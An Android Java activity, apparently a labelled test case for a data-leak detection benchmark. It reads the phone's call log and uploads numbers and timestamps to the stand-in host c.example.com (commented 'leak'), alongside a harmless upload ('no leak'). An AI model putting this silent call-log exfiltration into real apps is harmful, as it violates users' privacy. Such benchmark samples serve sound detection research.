package olden;

import android.app.*;
import android.database.*;
import android.os.*;
import android.provider.*;

import org.apache.http.client.methods.*;
import org.apache.http.entity.*;
import org.apache.http.impl.client.DefaultHttpClient;
import org.json.*;

import java.util.*;

/** Calls, through a vector of records, as JSON. */
public class CallList extends Activity {
    static class Call {
        String number;
        long when;
        int dur;
        String kind;
    }

    protected void onStart() {
        super.onStart();
        final Vector<Call> v = new Vector<Call>();
        Cursor c =
                managedQuery(
                        CallLog.Calls.CONTENT_URI,
                        new String[] {"number", "date", "duration", "type"},
                        null,
                        null,
                        "date DESC");
        int n = c.getColumnIndex("number"), d = c.getColumnIndex("date");
        if (c.moveToFirst())
            do {
                Call k = new Call();
                k.number = c.getString(n);
                k.when = c.getLong(d);
                k.dur = c.getInt(2);
                switch (c.getInt(3)) {
                    case 1:
                        k.kind = "in";
                        break;
                    case 2:
                        k.kind = "out";
                        break;
                    default:
                        k.kind = "missed";
                }
                v.addElement(k);
            } while (c.moveToNext());
        new Thread(
                        new Runnable() {
                            public void run() {
                                try {
                                    JSONArray a = new JSONArray(), b = new JSONArray();
                                    for (int i = 0; i < v.size(); i++) {
                                        Call k = v.elementAt(i);
                                        JSONObject o = new JSONObject();
                                        o.put("n", k.number);
                                        o.put("w", k.when);
                                        a.put(o);
                                        JSONObject p = new JSONObject();
                                        p.put("i", i);
                                        b.put(p);
                                    }
                                    HttpPut put = new HttpPut("http://c.example.com/calls");
                                    StringEntity e = new StringEntity(a.toString());
                                    put.setEntity(e);
                                    new DefaultHttpClient().execute(put); // leak
                                    HttpPut q = new HttpPut("http://c.example.com/n");
                                    q.setEntity(new StringEntity(b.toString()));
                                    new DefaultHttpClient().execute(q); // no leak
                                } catch (Exception e) {
                                }
                            }
                        })
                .start();
    }
}
